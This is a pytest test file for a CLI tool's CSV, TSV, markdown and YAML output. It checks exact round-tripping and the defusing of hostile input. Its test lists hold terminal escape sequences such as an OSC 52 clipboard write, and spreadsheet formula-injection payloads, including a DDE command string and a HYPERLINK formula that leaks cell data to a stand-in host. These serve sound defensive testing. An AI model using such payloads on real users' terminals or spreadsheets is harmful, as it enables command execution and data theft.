"""csv, tsv, plain, markdown and yaml as the tools they feed read them: every
value back exactly, lists as JSON in the cell, no raw control character, no
live spreadsheet formula, whole numbers whole, and JSON never NaN."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from jlp_cli.cli.app import app
from jlp_cli.errors import DataError
from jlp_cli.render.machine import write
from jlp_cli.render.view import Column, View

from .conftest import MINI, book_with, under_mutation

ROOT = Path(__file__).resolve().parent.parent

TEXTS = [
    "plain", "comma, inside", 'quote " inside', '"quoted"', "new\nline", "two\n\nbreaks\n", "tab\there",
    "back\\slash", "literal \\n and \\t", "ends in a backslash\\", "\\", "九龙坡区氢能产业营业收入10.6亿元",
    "Southwest Aluminium (Group) Co., Ltd.", " spaces around ", "a=b", "mid-dash", "", "'quoted already",
]
LISTS = [
    ["Southwest Aluminium (Group) Co., Ltd.", "西南铝"], [], ["a, b", 'c "d"', "e\nf", "g\\h", "\t"], [1, 2.5, None],
]
NUMBERS = [(3, "3"), (-5, "-5"), (-0.5, "-0.5"), (2.5e8, "250000000"), (1.06e9, "1060000000"), (166.67, "166.67"),
           (1e16, "10000000000000000"), (1.5e-7, "0.00000015"), (-0.0, "0"), (0.1 + 0.2, "0.30000000000000004"),
           (10**20, "100000000000000000000"), (True, "true"), (False, "false"), (None, "")]
HOSTILE = [
    "\x1b]52;c;aGVsbG8=\x07",  # OSC 52: write the clipboard
    "\x1b]8;;http://example.invalid\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1bPq#0;2;0;0;0\x1b\\",  # DCS
    "bell\x07", "csi \x9b31m red", "\x1b[2J\x1b[H", "over\rwrite", "nul\x00", "del\x7f", "back\x08space",
    "\u202eevil\u202c", "zero\u200bwidth", "line\u2028sep", "\x0bvt\x0cff",
]
FORMULAS = ['=HYPERLINK("http://example.invalid?"&A1,"click")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1", "\r=1",
            "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|' /C calc'!A0"]


def records(values) -> list[dict]:
    return [{"id": f"r{index}", "value": value} for index, value in enumerate(values)]


COLUMNS = [Column("id"), Column("value")]


def render(values, fmt: str, raw: bool = False, single: bool = False) -> str:
    out = io.StringIO()
    data = records(values)
    write(View(data[0] if single else data, COLUMNS, single=single), fmt, out, None, "both", raw=raw)
    return out.getvalue()


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


_TSV_ESCAPES = {"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}


def unescape_tsv(field: str) -> str:
    """Undo the four escapes tsv documents: \\t \\n \\r \\\\."""
    return re.sub(r"\\(.)", lambda m: _TSV_ESCAPES.get(m.group(1), m.group(0)), field)


def read_tsv(text: str) -> list[list[str]]:
    assert text.endswith("\n")
    return [[unescape_tsv(f) for f in line.split("\t")] for line in text[:-1].split("\n")]


def raw_controls(text: str, allowed: str) -> list[str]:
    """Characters in ``text`` that act on a terminal or hide themselves."""
    return [ch for ch in text if ch not in allowed and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")]


# -- every value comes back exactly ---------------------------------------------


def test_csv_reads_back_every_text_exactly():
    rows = read_csv(render(TEXTS, "csv"))
    assert rows[0] == ["id", "value"]
    assert [row[1] for row in rows[1:]] == TEXTS
    assert all(len(row) == 2 for row in rows)


@pytest.mark.parametrize("fmt", ["tsv", "plain"])
def test_tsv_and_plain_read_back_every_text_exactly(fmt):
    text = render(TEXTS, fmt)
    assert text.count("\n") == len(TEXTS) + (fmt == "tsv")  # one record, one line
    rows = read_tsv(text)
    if fmt == "tsv":
        assert rows.pop(0) == ["id", "value"]
    assert [row[1] for row in rows] == TEXTS


@pytest.mark.parametrize("fmt", ["csv", "tsv", "plain"])
def test_lists_are_json_arrays_in_the_cell(fmt):
    text = render(LISTS, fmt)
    rows = read_csv(text) if fmt == "csv" else read_tsv(text)
    cells = [row[1] for row in rows[(fmt != "plain"):]]
    assert [json.loads(c) for c in cells] == LISTS
    assert cells[0] == '["Southwest Aluminium (Group) Co., Ltd.", "西南铝"]'


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_objects_are_json_in_the_cell(fmt):
    value = {"zh": "十亿, 元", "en": 'a "b"'}
    text = render([value], fmt)
    rows = read_csv(text) if fmt == "csv" else read_tsv(text)
    assert json.loads(rows[1][1]) == value


@pytest.mark.parametrize("fmt", ["csv", "tsv", "markdown"])
def test_numbers_are_written_whole_and_with_their_digits(fmt):
    text = render([v for v, _ in NUMBERS], fmt)
    if fmt == "markdown":
        cells = [line.split(" | ")[1].rstrip(" |") for line in text.splitlines()[2:]]
    else:
        cells = [row[1] for row in (read_csv(text) if fmt == "csv" else read_tsv(text))[1:]]
    assert cells == [expected for _, expected in NUMBERS]
    assert "e+" not in text and ".0 " not in text and ".0\n" not in text


def test_a_single_record_is_field_value_pairs_that_read_back():
    rows = read_csv(render(["a, b\n\"c\""], "csv", single=True))
    assert rows == [["field", "value"], ["id", "r0"], ["value", "a, b\n\"c\""]]
    assert read_tsv(render([["x,y", "z"]], "tsv", single=True))[2] == ["value", '["x,y", "z"]']


# -- nothing acts on a terminal -------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "tsv", "plain", "markdown"])
def test_no_raw_control_character_in_text_formats(fmt):
    for raw in (False, True):
        text = render(HOSTILE, fmt, raw=raw)
        assert raw_controls(text, allowed="\n\t") == [], (fmt, raw)
        assert "\\x1b]52;c;" in text and "<U+202E>" in text  # shown, not dropped


def test_csv_shows_controls_the_way_tsv_does_and_keeps_line_breaks():
    rows = read_csv(render(HOSTILE + ["new\nline", "tab\there"], "csv"))
    cells = [row[1] for row in rows[1:]]
    assert cells[0] == "\\x1b]52;c;aGVsbG8=\\x07"
    assert cells[4] == "csi \\x9b31m red"
    assert cells[6] == "over\\rwrite"
    assert cells[10] == "<U+202E>evil<U+202C>"
    assert cells[-2:] == ["new\nline", "tab\there"]  # RFC 4180: kept, inside a quoted cell
    tsv = read_tsv(render(HOSTILE, "tsv"))
    assert tsv[1][1] == "\\x1b]52;c;aGVsbG8=\\x07" and tsv[7][1] == "over\rwrite"


# -- no live formula ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "tsv", "plain"])
def test_formula_cells_are_defused_with_a_leading_quote(fmt):
    text = render(FORMULAS, fmt)
    rows = read_csv(text) if fmt == "csv" else read_tsv(text)
    cells = [row[1] for row in rows[(fmt != "plain"):]]
    for value, cell in zip(FORMULAS, cells):
        assert cell.startswith("'"), (value, cell)
        expected = value.replace("\r", "\\r") if fmt == "csv" else value
        assert cell[1:] == expected


@pytest.mark.parametrize("fmt", ["csv", "tsv", "plain"])
def test_raw_writes_formula_cells_as_they_are(fmt):
    text = render(FORMULAS, fmt, raw=True)
    rows = read_csv(text) if fmt == "csv" else read_tsv(text)
    cells = [row[1] for row in rows[(fmt != "plain"):]]
    assert cells == [v.replace("\r", "\\r") if fmt == "csv" else v for v in FORMULAS]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_numbers_and_inner_signs_are_not_formulas(fmt):
    values = [-5, -0.5, -2.5e8, "a=b", "x-y", "1+8", ["=inside a list"], {"zh": "=x", "en": "=x"}]
    text = render(values, fmt)
    rows = read_csv(text) if fmt == "csv" else read_tsv(text)
    cells = [row[1] for row in rows[1:]]
    assert cells[:6] == ["-5", "-0.5", "-250000000", "a=b", "x-y", "1+8"]
    assert json.loads(cells[6]) == ["=inside a list"] and json.loads(cells[7])["en"] == "=x"


def test_the_header_is_never_defused_but_is_escaped():
    out = io.StringIO()
    write(View([{"-x": 1}], [Column("-x")]), "csv", out, None, "both")
    assert out.getvalue().splitlines()[0] == "-x"


# -- markdown -----------------------------------------------------------------------------------


def split_markdown_row(line: str) -> list[str]:
    """A GitHub table row's cells: a pipe after an odd run of backslashes is
    part of the text."""
    assert line.startswith("| ") and line.endswith(" |")
    cells, current, backslashes = [], [], 0
    for ch in line[1:-1]:
        if ch == "|" and backslashes % 2 == 0:
            cells.append("".join(current))
            current = []
        else:
            current.append(ch)
        backslashes = backslashes + 1 if ch == "\\" else 0
    cells.append("".join(current))
    return [c.strip() for c in cells]


def test_a_pipe_in_markdown_never_adds_a_column():
    values = ["Jiulongpo | Chongqing", "a\\|b", "|", "\\", "x\\", "|leading", "trailing|", "new\nline | x"]
    lines = render(values, "markdown").splitlines()
    assert len(lines) == 2 + len(values)  # line breaks escaped: one row per record
    header = split_markdown_row(lines[0])
    assert header == ["id", "value"] and set(lines[1]) <= set("|-")
    for line in lines[2:]:
        assert len(split_markdown_row(line)) == 2, line
    assert split_markdown_row(lines[2])[1] == "Jiulongpo \\| Chongqing"
    assert split_markdown_row(lines[9])[1] == "new\\nline \\| x"


def test_a_single_record_in_markdown_escapes_pipes_too():
    lines = render(["a|b"], "markdown", single=True).splitlines()
    assert lines[:2] == ["| field | value |", "|---|---|"]
    assert [split_markdown_row(line) for line in lines[2:]] == [["id", "r0"], ["value", "a\\|b"]]


# -- yaml ------------------------------------------------------------------------------------------


def test_yaml_is_safe_and_reads_back_exactly():
    values = HOSTILE + TEXTS + [["a", "b, c"], {"zh": "九龙坡", "en": "x"}, 2.5e8, -5, None, True]
    text = render(values, "yaml")
    assert yaml.safe_load(text) == records(values)
    assert "!!python" not in text and "!!" not in text
    assert raw_controls(text, allowed="\n") == []
    assert "九龙坡区氢能产业" in text  # Chinese not escaped where nothing needs it


# -- json never holds NaN or Infinity ---------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv", "tsv"])
@pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf")])
def test_nan_and_infinity_are_a_data_error_not_invalid_json(fmt, number):
    value = [1, number] if fmt in ("csv", "tsv") else number  # csv/tsv hold it in a JSON cell
    with pytest.raises(DataError, match="NaN or infinite"):
        render([value], fmt)
    with pytest.raises(DataError):
        render([{"deep": [number]}], fmt, single=True)


# -- through the command line -------------------------------------------------------------------------

runner = CliRunner()


@pytest.fixture()
def hostile_book(tmp_path) -> Path:
    book = yaml.safe_load(MINI.read_text(encoding="utf-8"))
    book["facts"][0]["text"]["en"] = '=HYPERLINK("http://example.invalid","x") \x1b]52;c;aGk=\x07'
    book["entities"][0]["aliases"] = ["Lakeside, Town", "湖畔"]
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(book, allow_unicode=True), encoding="utf-8")
    return path


def jlp(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, (args, result.stdout, result.stderr)
    return result.stdout


def test_cli_csv_defuses_formulas_and_escapes_controls(hostile_book):
    rows = read_csv(jlp("facts", "--facts", str(hostile_book), "--format", "csv"))
    text_en = rows[0].index("text.en")
    assert rows[1][text_en] == '\'=HYPERLINK("http://example.invalid","x") \\x1b]52;c;aGk=\\x07'


@pytest.mark.parametrize("where", ["after", "before"])
def test_cli_raw_turns_defusing_off(hostile_book, where):
    args = ["facts", "--facts", str(hostile_book), "--format", "tsv"]
    args = args + ["--raw"] if where == "after" else ["--raw"] + args
    rows = read_tsv(jlp(*args))
    assert rows[1][rows[0].index("text.en")] == '=HYPERLINK("http://example.invalid","x") \\x1b]52;c;aGk=\\x07'


def test_cli_aliases_with_commas_split_back(hostile_book):
    rows = read_csv(jlp("entities", "--facts", str(hostile_book), "--format", "csv"))
    aliases = [json.loads(row[rows[0].index("aliases")]) for row in rows[1:]]
    assert ["Lakeside, Town", "湖畔"] in aliases


def test_cli_raw_is_listed_in_help():
    assert "--raw" in jlp("facts", "--help")


@pytest.mark.skipif(under_mutation(), reason="mutmut's trampolines import modules of their own")
def test_machine_module_stays_lean():
    probe = ("import sys\nimport jlp_cli.render.machine\n"
             "print(sorted(m for m in ('csv', 'yaml', 'sqlite3', 'rich', 'decimal', 'pydantic') if m in sys.modules))")
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.stdout.strip() == "[]", result.stdout + result.stderr


# -- what a script is told when its data or its fields are wrong --------------------------------

def test_a_number_json_cannot_hold_says_what_to_do():
    with pytest.raises(DataError) as caught:
        render([float("nan")], "json")
    assert caught.value.message == "a number is NaN or infinite, which JSON cannot hold"
    assert caught.value.hint == "fix the number in the facts file; 'jlp validate' finds it"


@pytest.mark.parametrize("fmt", ["csv", "tsv", "plain", "json", "jsonl", "yaml", "markdown"])
@pytest.mark.parametrize("single", [False, True], ids=["listing", "single"])
def test_an_unknown_field_is_refused_with_the_valid_ones_before_anything_is_written(fmt, single):
    from jlp_cli.errors import UsageError

    records = [{"id": "a", "text": {"zh": "甲", "en": "A"}}, {"id": "b", "text": {"zh": "乙", "en": "B"}}]
    view = View(records[0] if single else records, [Column("id"), Column("text", bilingual=True)],
                single=single)
    out = io.StringIO()
    with pytest.raises(UsageError) as caught:
        write(view, fmt, out, ["id", "txet"], "both")
    assert caught.value.message == "unknown field 'txet' for --fields"
    assert caught.value.hint == "valid fields: id, text, text.zh, text.en"
    assert out.getvalue() == ""


@pytest.mark.parametrize("fmt, expected", [
    ("csv", ["field,value", "kind,goal"]),
    ("tsv", ["field\tvalue", "kind\tgoal"]),
    ("markdown", ["| field | value |", "|---|---|", "| kind | goal |"]),
])
def test_fields_of_a_single_record_are_the_only_rows(fmt, expected):
    record = {"id": "a", "kind": "goal", "text": {"zh": "甲", "en": "A"}}
    view = View(record, [Column("id"), Column("kind"), Column("text", bilingual=True)],
                single=True)
    out = io.StringIO()
    write(view, fmt, out, ["kind"], "both")
    assert out.getvalue().splitlines() == expected


@pytest.mark.parametrize("fmt", ["tsv", "csv"])
def test_one_language_reaches_into_the_figures_cell_of_a_single_record(fmt):
    result = runner.invoke(app, ["show", "hydrogen-revenue-2022", "--facts", str(MINI), "--format", fmt,
                                 "--lang", "en"])
    assert result.exit_code == 0, result.stderr
    rows = [line.split("\t") for line in result.stdout.splitlines()] if fmt == "tsv" else \
        list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["field", "value"]
    figures = json.loads(dict(rows[1:])["figures"])
    assert [figure["metric"] for figure in figures] == [{"en": "hydrogen industry operating revenue"},
                                                        {"en": "year-on-year revenue growth"}]
    assert figures[1]["comparison"] == {"en": "year on year"}


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_a_figure_written_as_a_sum_keeps_its_value_in_csv_and_tsv(fmt):
    result = runner.invoke(app, ["figures", "--format", fmt])
    assert result.exit_code == 0, result.stderr
    dialect = {} if fmt == "csv" else {"delimiter": "\t", "quoting": csv.QUOTE_NONE}
    rows = list(csv.DictReader(io.StringIO(result.stdout), **dialect))
    (row,) = [row for row in rows if row["as_written"] == "1+8"]
    assert (row["fact"], row["value"], row["value_base"], row["derived"]) == \
        ("one-plus-eight-platforms", "1+8", "9", "true")


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("fmt, load", [
    ("json", json.loads), ("yaml", yaml.safe_load),
    ("jsonl", lambda text: [json.loads(line) for line in text.splitlines()]),
])
def test_one_language_in_json_jsonl_and_yaml_keeps_only_that_language(fmt, load, lang):
    result = runner.invoke(app, ["facts", "--section", "industry", "--facts", str(MINI), "--format", fmt,
                                 "--lang", lang])
    assert result.exit_code == 0, result.stderr
    records = load(result.stdout)
    assert len(records) == 3
    assert all(list(record["text"]) == [lang] for record in records)
    metrics = [figure["metric"] for record in records for figure in record["figures"]]
    assert metrics and all(list(metric) == [lang] for metric in metrics)


# -- the exact text scripts and renderers of markdown get ---------------------------------------------

def test_a_markdown_table_has_one_separator_cell_per_column_and_joins_lists_with_commas():
    lines = render(["Lakeside", ["Hupan", "湖畔"], [1, 2.5]], "markdown").splitlines()
    assert lines == ["| id | value |", "|---|---|", "| r0 | Lakeside |", "| r1 | Hupan, 湖畔 |", "| r2 | 1, 2.5 |"]


def test_a_markdown_listing_through_the_cli_has_a_separator_cell_under_every_header():
    lines = jlp("entities", "--facts", str(MINI), "--format", "markdown", "--lang", "en").splitlines()
    assert lines[:3] == ["| id | type | fact_count | name.en | aliases |", "|---|---|---|---|---|",
                         "| lakeside-town | place | 3 | Lakeside Town | Hupan, 湖畔 |"]


def test_csv_lines_end_with_a_line_feed_only():
    assert render(["plain", "a,b", 'say "hi"'], "csv") == 'id,value\nr0,plain\nr1,"a,b"\nr2,"say ""hi"""\n'


def test_yaml_keeps_the_records_own_key_order():
    out = io.StringIO()
    write(View([{"zeta": 1, "id": "z", "alpha": None}], [Column("id")]), "yaml", out, None, "both")
    assert out.getvalue() == "- zeta: 1\n  id: z\n  alpha: null\n"
    sections = jlp("sections", "--facts", str(MINI), "--format", "yaml").splitlines()
    assert sections[:2] == ["- id: intro", "  order: 0"]


@pytest.fixture()
def undated_book(tmp_path) -> Path:
    def undated(book):
        for fact in book["facts"]:
            fact.pop("period", None)
            fact.pop("figures", None)

    return book_with(tmp_path, undated, name="undated.yaml")


@pytest.mark.parametrize("command, sentence, header", [
    ("timeline", "no dated facts", "period,fact,text.zh,text.en"),
    ("figures", "no figure matches these filters", "fact,metric.zh,metric.en,value,value_end,unit,unit_en,value_base,"
                                                  "value_base_end,unit_base,derived,period,as_written"),
])
def test_an_empty_listing_says_what_is_missing_and_still_writes_its_header(undated_book, command, sentence, header):
    result = runner.invoke(app, [command, "--facts", str(undated_book), "--format", "csv"])
    assert result.exit_code == 1
    assert result.stdout == header + "\n"
    assert result.stderr == f"jlp: {sentence}.\n"
    as_json = runner.invoke(app, [command, "--facts", str(undated_book), "--json"])
    assert (as_json.exit_code, as_json.stdout) == (1, "[]\n")


def test_yaml_keeps_a_text_of_up_to_100_columns_on_its_line():
    text = "Lakeside Town launched an urban renewal project in Old Street Community, keeping its houses"
    lines = render([text], "yaml").splitlines()
    assert lines == ["- id: r0", f"  value: {text}"]  # 100 columns: not folded at 80


def test_plain_writes_a_single_record_as_field_tab_value_lines_without_a_header():
    assert render(["Lakeside Town"], "plain", single=True) == "id\tr0\nvalue\tLakeside Town\n"
    assert render(["Lakeside Town"], "tsv", single=True) == "field\tvalue\nid\tr0\nvalue\tLakeside Town\n"


@pytest.mark.parametrize("fields", [",", " , ", ""])
def test_a_fields_list_with_no_name_is_refused_with_a_hint_and_nothing_written(fields):
    result = runner.invoke(app, ["facts", "--fields", fields, "--format", "csv"])
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr == "jlp: --fields is empty.\nhint: give field names such as id,text.en\n"


def test_yaml_writes_a_single_record_as_one_mapping_not_a_list():
    assert render(["Lakeside Town"], "yaml", single=True) == "id: r0\nvalue: Lakeside Town\n"
